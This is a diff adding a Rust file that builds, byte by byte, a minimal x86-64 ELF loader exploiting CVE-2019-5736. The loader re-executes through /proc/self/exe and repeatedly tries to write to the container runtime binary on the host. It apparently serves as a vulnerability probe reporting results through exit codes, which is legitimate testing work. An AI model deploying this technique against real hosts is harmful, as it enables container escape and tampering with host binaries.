@@ -1,0 +1,121 @@
+//! A loader that a hostile image brings along: the kernel runs it in the place of a C
+//! library's for whichever program is executed. It keeps a descriptor of that program
+//! while it executes itself, and then tries to write to the program
+//! (CVE-2019-5736). It is a few dozen instructions, because what begins in the place of a
+//! loader has none.
+
+/// Says what it holds, as a line on standard output, and ends with this status when it
+/// could not write.
+pub const REFUSED: i32 = 78;
+
+/// Where the image has to have it a second time: it executes itself under this path.
+pub const SECOND: &str = "2";
+
+/// Its header: 64 bytes of ELF's, and 56 of the only segment's.
+const HEADER: u16 = 120;
+
+/// The loader as an ELF file.
+///
+/// # Panics
+/// Never.
+pub fn program() -> Vec<u8> {
+    let code = [CODE, b"/proc/self/exe\0/proc/self/fd/9\0/2\0"].concat();
+    let length = u64::from(HEADER) + code.len() as u64;
+    let mut file = vec![];
+    // 64 bits, little-endian, version 1.
+    file.extend_from_slice(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0");
+    // A position-independent program for x86-64.
+    for half in [3_u16, 62] {
+        file.extend_from_slice(&half.to_le_bytes());
+    }
+    file.extend_from_slice(&1_u32.to_le_bytes());
+    // It begins behind the headers, the second of which follows the first.
+    for long in [u64::from(HEADER), 64, 0] {
+        file.extend_from_slice(&long.to_le_bytes());
+    }
+    file.extend_from_slice(&0_u32.to_le_bytes());
+    for half in [64_u16, 56, 1, 0, 0, 0] {
+        file.extend_from_slice(&half.to_le_bytes());
+    }
+    // All of the file is loaded, to be read and executed.
+    for word in [1_u32, 5] {
+        file.extend_from_slice(&word.to_le_bytes());
+    }
+    for long in [0, 0, 0, length, length, 4096] {
+        file.extend_from_slice(&long.to_le_bytes());
+    }
+    assert_eq!(file.len(), usize::from(HEADER), "the headers");
+    file.extend_from_slice(&code);
+    file
+}
+
+/// First: `open` of `exe`, `dup2` to 9, `execve` of `two`. Second: `readlink` of `fd`,
+/// `write` of that, and 100,000 times `open` of it for writing, and `write`. Then
+/// `exit_group`, with 77 if a byte was written, 79 if `execve` failed.
+#[rustfmt::skip]
+const CODE: &[u8] = &[
+    // _start:
+    0x48, 0x8b, 0x44, 0x24, 0x08, // mov rax,QWORD PTR [rsp+0x8]
+    0x80, 0x78, 0x01, 0x32, // cmp BYTE PTR [rax+0x1],0x32
+    0x74, 0x40, // je second
+    0xb8, 0x02, 0x00, 0x00, 0x00, // mov eax,0x2
+    0x48, 0x8d, 0x3d, 0xc1, 0x00, 0x00, 0x00, // lea rdi,[exe]
+    0x31, 0xf6, // xor esi,esi
+    0x31, 0xd2, // xor edx,edx
+    0x0f, 0x05, // syscall
+    0x89, 0xc7, // mov edi,eax
+    0xbe, 0x09, 0x00, 0x00, 0x00, // mov esi,0x9
+    0xb8, 0x21, 0x00, 0x00, 0x00, // mov eax,0x21
+    0x0f, 0x05, // syscall
+    0x6a, 0x00, // push 0x0
+    0x48, 0x8d, 0x3d, 0xc3, 0x00, 0x00, 0x00, // lea rdi,[two]
+    0x57, // push rdi
+    0x48, 0x89, 0xe6, // mov rsi,rsp
+    0x31, 0xd2, // xor edx,edx
+    0xb8, 0x3b, 0x00, 0x00, 0x00, // mov eax,0x3b
+    0x0f, 0x05, // syscall
+    0xbf, 0x4f, 0x00, 0x00, 0x00, // mov edi,0x4f
+    0xe9, 0x86, 0x00, 0x00, 0x00, // jmp exit
+    // second:
+    0x48, 0x81, 0xec, 0x00, 0x10, 0x00, 0x00, // sub rsp,0x1000
+    0xb8, 0x59, 0x00, 0x00, 0x00, // mov eax,0x59
+    0x48, 0x8d, 0x3d, 0x89, 0x00, 0x00, 0x00, // lea rdi,[fd]
+    0x48, 0x89, 0xe6, // mov rsi,rsp
+    0xba, 0xff, 0x0f, 0x00, 0x00, // mov edx,0xfff
+    0x0f, 0x05, // syscall
+    0x89, 0xc2, // mov edx,eax
+    0xc6, 0x04, 0x14, 0x0a, // mov BYTE PTR [rsp+rdx*1],0xa
+    0xff, 0xc2, // inc edx
+    0xb8, 0x01, 0x00, 0x00, 0x00, // mov eax,0x1
+    0xbf, 0x01, 0x00, 0x00, 0x00, // mov edi,0x1
+    0x48, 0x89, 0xe6, // mov rsi,rsp
+    0x0f, 0x05, // syscall
+    0xbb, 0xa0, 0x86, 0x01, 0x00, // mov ebx,0x186a0
+    // loop:
+    0xb8, 0x02, 0x00, 0x00, 0x00, // mov eax,0x2
+    0x48, 0x8d, 0x3d, 0x57, 0x00, 0x00, 0x00, // lea rdi,[fd]
+    0xbe, 0x01, 0x00, 0x00, 0x00, // mov esi,0x1
+    0x0f, 0x05, // syscall
+    0x85, 0xc0, // test eax,eax
+    0x78, 0x2d, // js next
+    0x41, 0x89, 0xc4, // mov r12d,eax
+    0x89, 0xc7, // mov edi,eax
+    0x48, 0x8d, 0x35, 0x50, 0x00, 0x00, 0x00, // lea rsi,[two]
+    0xba, 0x01, 0x00, 0x00, 0x00, // mov edx,0x1
+    0xb8, 0x01, 0x00, 0x00, 0x00, // mov eax,0x1
+    0x0f, 0x05, // syscall
+    0xbf, 0x4d, 0x00, 0x00, 0x00, // mov edi,0x4d
+    0x48, 0x83, 0xf8, 0x01, // cmp rax,0x1
+    0x74, 0x13, // je exit
+    0x44, 0x89, 0xe7, // mov edi,r12d
+    0xb8, 0x03, 0x00, 0x00, 0x00, // mov eax,0x3
+    0x0f, 0x05, // syscall
+    // next:
+    0xff, 0xcb, // dec ebx
+    0x75, 0xb8, // jne loop
+    0xbf, 0x4e, 0x00, 0x00, 0x00, // mov edi,0x4e
+    // exit:
+    0xb8, 0xe7, 0x00, 0x00, 0x00, // mov eax,0xe7
+    0x0f, 0x05, // syscall
+    // exe: fd: two:
+];
